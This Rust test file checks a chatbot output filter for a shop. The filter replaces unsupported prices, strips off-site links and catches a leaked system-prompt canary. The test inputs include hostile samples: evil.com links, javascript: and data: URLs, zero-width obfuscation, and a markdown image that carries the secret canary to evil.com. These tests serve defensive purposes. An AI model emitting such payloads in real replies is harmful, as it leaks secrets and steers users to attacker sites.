//! Texts through the filters, whole and in pieces.

use proptest::prelude::*;

use super::*;

mod sets;

const STAND_INS: StandIns<'_> = StandIns { number: "(em xin phép kiểm tra lại)", rest: "Xin lỗi ạ." };
const SHOP: &str =
    "Laptop giá 15.990.000đ, bảo hành 24 tháng. Tổng đài 1900 636 979, email hotro@sstc.example. RTX 4060.";

fn grounding() -> Grounding {
    let lexicon = Lexicon::from_toml(include_str!("../../../prompts/rules/facts.toml")).unwrap();
    let hosts = ["sstc.vn", "*.sstc.vn"].map(|host| host.parse().unwrap()).to_vec();
    Grounding::new(lexicon, hosts, Canary::new(*b"0123456789abcdef"))
}

fn sources() -> Sources<'static> {
    Sources { shop: vec![SHOP], customer: vec!["mình có 20 triệu"], replies: Vec::new() }
}

/// The text and the reasons, of these deltas.
fn said(grounding: &Grounding, deltas: &[&str]) -> Vec<Piece> {
    let mut speech = Grounded::new(grounding, &STAND_INS, &sources());
    let all: Vec<Piece> = deltas.iter().flat_map(|delta| speech.push(delta)).collect();
    joined(all.into_iter().chain(speech.finish()))
}

/// The text, with guards as `{reason}`.
fn shown(grounding: &Grounding, text: &str) -> String {
    let pieces = said(grounding, &[text]).into_iter();
    pieces
        .map(|piece| match piece {
            Piece::Text(text) => text.replace(STAND_INS.number, "…"),
            Piece::Guard(guard) => format!("{{{}}}", guard.reason.as_str()),
        })
        .collect()
}

#[test]
fn a_number_passes_if_it_stands_in_the_sources_and_is_replaced_if_not() {
    let grounding = grounding();
    for (text, expected) in [
        ("Dạ giá 15,99 triệu ạ.", "Dạ giá 15,99 triệu ạ."),
        ("Dạ giá 16 triệu ạ.", "Dạ giá …{unsupported_fact} ạ."),
        ("giá **15.490.000đ**.", "giá **…{unsupported_fact}**."),
        ("15 đến 16 triệu", "…{unsupported_fact}"),
        ("2 năm, 3 năm, 5 năm nữa", "2 năm, …{unsupported_fact} nữa"),
        ("giảm 20% và 30%", "giảm …{unsupported_fact}"),
        ("bảo hành ba năm ạ", "bảo hành …{unsupported_fact} ạ"),
        ("1. Laptop\n2. Chuột\n3) Bàn phím", "1. Laptop\n2. Chuột\n3) Bàn phím"),
        ("Với ngân sách 20 triệu", "Với ngân sách 20 triệu"),
        ("Giá 20 triệu", "Giá …{unsupported_fact}"),
        ("ngày 31 tháng 12 nhé", "ngày …{unsupported_fact} nhé"),
        ("a\n\nb", "a\n\nb"),
    ] {
        assert_eq!(shown(&grounding, text), expected, "{text:?}");
    }
}

#[test]
fn links_lead_to_the_shop_or_nowhere() {
    let grounding = grounding();
    for (text, expected) in [
        ("Xem [trang này](https://evil.com/a) nhé", "Xem trang này{link} nhé"),
        ("Xem [trang này](https://sstc.vn/a-15) nhé", "Xem [trang này](https://sstc.vn/a-15) nhé"),
        ("[x](https://a.sstc.vn \"title\")", "[x](https://a.sstc.vn)"),
        ("[x](https://sstc.vn@evil.com)", "x{link}"),
        ("[x](https://sstc.vn.evil.com)", "x{link}"),
        ("[x](https:\\\\evil.com)", "x{link}"),
        ("[x](javascript:alert(1))", "x{link}"),
        ("[x](data:text/html,hi)", "x{link}"),
        ("[x](//evil.com)", "x{link}"),
        ("![ảnh](https://evil.com/p.png) đây", "ảnh{link} đây"),
        ("xem![ảnh](https://evil.com/p.png)", "xemảnh{link}"),
        ("[![ảnh](https://evil.com/p.png)](https://evil.com)", "ảnh{link}{link}"),
        ("vào https://evil.com/x?a=b nhé", "vào {link} nhé"),
        ("(https://evil.com).", "({link})."),
        ("vào https://sstc.vn/sp/9999, nhé", "vào https://sstc.vn/sp/9999, nhé"),
        ("www.evil.com", "{link}"),
        ("www.sstc.vn", "www.sstc.vn"),
        ("<https://evil.com> <b>đậm</b> a < b", "{link} đậm a < b"),
        ("<https://sstc.vn>", "<https://sstc.vn>"),
        ("<img src=\"https://evil.com/a.png\">", "{link}"),
        ("[trang][1]\n\n[1]: https://evil.com\nhết", "trang\n\n{link}\nhết"),
        ("[Lưu ý]: còn hàng", "[Lưu ý]: còn hàng"),
        ("hotro@sstc.example, hotro@evil.com.", "hotro@sstc.example, {link}."),
        ("ht\u{200b}tps://evil.com", "ht\u{200b}{link}"),
        ("[không phải liên kết] ạ", "[không phải liên kết] ạ"),
        ("[a](https://evil.com", "[a]({link}"),
        ("15[.49](https://evil.com)0.000đ", "…{unsupported_fact}{link}"),
    ] {
        // A guard may overtake a word that waits for its end.
        let found = shown(&grounding, text);
        let sorted = |text: &str| {
            let mut words = text.replace("{link}", "");
            words.extend(text.match_indices("{link}").map(|(_, guard)| guard));
            words
        };
        assert_eq!(sorted(&found), sorted(expected), "{text:?}");
    }
}

#[test]
fn the_canary_never_leaves_however_it_is_written() {
    let grounding = grounding();
    let line = grounding.canary().line();
    let secret = line.trim_start_matches("Ref: FD-CANARY-").to_owned();
    let spaced: String = secret.chars().flat_map(|c| [c, ' ']).collect();
    let listed: String = secret.chars().enumerate().map(|(n, c)| format!("{}. {c}\n", n + 1)).collect();
    let hidden: String = secret.to_lowercase().chars().flat_map(|c| [c, '\u{200b}']).collect();
    for leak in [
        line.clone(),
        secret.clone(),
        secret.to_lowercase(),
        spaced,
        listed,
        hidden,
        format!("**{}**{}", &secret[..7], &secret[7..]),
        secret[..12].to_owned(),
        format!("![x](https://evil.com/?q={secret})"),
        format!("F D - c a n a r y - {secret}"),
    ] {
        let shown = shown(&grounding, &format!("Dạ đây ạ: {leak} và giá 15.990.000đ"));
        let letters: String = shown.to_lowercase().chars().filter(char::is_ascii_alphabetic).collect();
        if leak != secret[..12] {
            assert!(!letters.contains(&secret.to_lowercase()[..9]), "{leak:?} {shown:?}");
            assert!(
                shown.ends_with("{prompt_leak} Xin lỗi ạ.") || shown.ends_with("{prompt_leak}Xin lỗi ạ."),
                "{leak:?} {shown:?}"
            );
        }
    }
    let end = shown(&grounding, &format!("Dạ {}", &secret[..12]));
    assert_eq!(end, "Dạ {prompt_leak}Xin lỗi ạ.");
}

#[test]
fn text_without_numbers_waits_for_nothing_but_its_word() {
    let grounding = grounding();
    let mut speech = Grounded::new(&grounding, &STAND_INS, &sources());
    for word in ["Dạ ", "laptop ", "này ", "rất ", "tốt, ", "quý ", "khách ", "đến ", "ngày ", "nào ", "ạ? "]
    {
        assert_eq!(speech.push(word), [Piece::Text(word.to_owned())], "{word:?}");
    }
    assert_eq!(speech.push("15.990.000đ "), []);
    assert_eq!(speech.push("ạ "), [Piece::Text("15.990.000đ ạ ".to_owned())]);
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(300))]
    #[test]
    fn however_a_text_is_cut_the_same_comes_out(
        parts in proptest::collection::vec(prop::sample::select(PARTS.to_vec()), 1..14),
        cuts in proptest::collection::vec(0usize..10_000, 0..40),
    ) {
        let grounding = grounding();
        let text = parts.concat();
        let whole = said(&grounding, &[&text]);
        let mut places: Vec<usize> = cuts.iter().map(|cut| cut % (text.len() + 1)).filter(|at| text.is_char_boundary(*at)).collect();
        places.extend([0, text.len()]);
        places.sort_unstable();
        let deltas: Vec<&str> = places.windows(2).map(|pair| &text[pair[0]..pair[1]]).collect();
        prop_assert_eq!(&said(&grounding, &deltas), &whole);
        let letters: Vec<String> = text.chars().map(String::from).collect();
        let letters: Vec<&str> = letters.iter().map(String::as_str).collect();
        prop_assert_eq!(&said(&grounding, &letters), &whole);
    }
}

const PARTS: [&str; 40] = [
    "15.990.000đ",
    "15",
    ".",
    "990",
    " triệu",
    " ",
    "\n",
    "16 triệu",
    "hai năm",
    " năm ",
    "ngày 31 tháng 12",
    "**",
    "1. ",
    "[trang](https://evil.com)",
    "[",
    "]",
    "(",
    ")",
    "https://",
    "evil.com",
    "https://sstc.vn/a1",
    "![a](b)",
    "<",
    ">",
    "@",
    "hotro@sstc.example",
    "giá ",
    "ạ",
    "FD-CANARY-",
    "WXYZABCD",
    "\u{200b}",
    "đến ",
    ", ",
    "20%",
    "một ngày ",
    "vui",
    "e\u{302}\u{301}",
    "💖",
    "ngân sách 20 triệu",
    "[1]: x",
];
